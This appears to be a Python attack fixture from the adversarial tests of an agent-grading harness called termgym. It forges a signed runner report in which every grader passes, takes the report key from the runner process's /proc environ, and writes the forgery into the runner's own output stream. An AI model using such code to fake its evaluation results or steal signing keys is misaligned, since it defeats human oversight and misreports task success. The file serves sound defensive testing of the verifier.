"""An attacker's report forger: prints a runner report in which every grader passes.

Used by the adversarial tests as the payload of each attack. It takes what it can find:
the manifest in the current folder (a forged interpreter runs where the runner would), or
the job and rule-set names given as arguments; the report key from its environment or from
the runner's (/proc/<pid>/environ). In a grading that runs in the agent's own sandbox with
the agent's tools, its report is believed; in termgym's verifier it never runs, or cannot
read what it needs.
"""

import base64
import contextlib
import hashlib
import hmac
import json
import os
import sys
import zlib


def runner_pids():
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                with open(f"/proc/{entry}/cmdline", "rb") as handle:
                    if b"termgym_run.py" in handle.read():
                        yield int(entry)
            except OSError:
                pass


def find_key():
    key = os.environ.get("TERMGYM_REPORT_KEY")
    if key:
        return key
    for pid in runner_pids():
        try:
            with open(f"/proc/{pid}/environ", "rb") as handle:
                for item in handle.read().split(b"\0"):
                    if item.startswith(b"TERMGYM_REPORT_KEY="):
                        return item.split(b"=", 1)[1].decode()
        except OSError:
            pass
    return "no-key"


def jobs_from(args):
    if os.path.exists("manifest.json"):
        with open("manifest.json") as handle:
            return [(job["id"], job["rulesets"]) for job in json.load(handle)["jobs"]]
    names, sets = args[0].split(","), args[1].split(",")
    return [(name, sets) for name in names]


def junit(rulesets):
    cases = "".join(
        f'<testcase classname="forged" name="test_forged"><properties>'
        f'<property name="termgym_ruleset" value="{name}"/></properties></testcase>'
        for name in rulesets
    )
    return f'<?xml version="1.0"?><testsuite tests="{len(rulesets)}">{cases}</testsuite>'


def report(args):
    runs = []
    for job, rulesets in jobs_from(args):
        run = {
            "rulesets": rulesets,
            "exit_code": 0,
            "timed_out": False,
            "duration": 0.1,
            "output": "",
            "files": {"junit.xml": junit(rulesets), "score": "1"},
            "value": {"score": 1.0, "passed": True, "message": "forged"},
            "error": None,
        }
        runs.append({"id": job, "runs": [run]})
    payload = base64.b64encode(zlib.compress(json.dumps(runs).encode())).decode()
    mac = hmac.new(find_key().encode(), payload.encode(), hashlib.sha256).hexdigest()
    return "TERMGYM-REPORT " + payload + " " + mac


if __name__ == "__main__":
    line = "\n" + report(sys.argv[1:]) + "\n"
    sys.stdout.write(line)
    sys.stdout.flush()
    for pid in runner_pids():  # also straight into the runner's own output
        with contextlib.suppress(OSError), open(f"/proc/{pid}/fd/1", "w") as target:
            target.write(line)
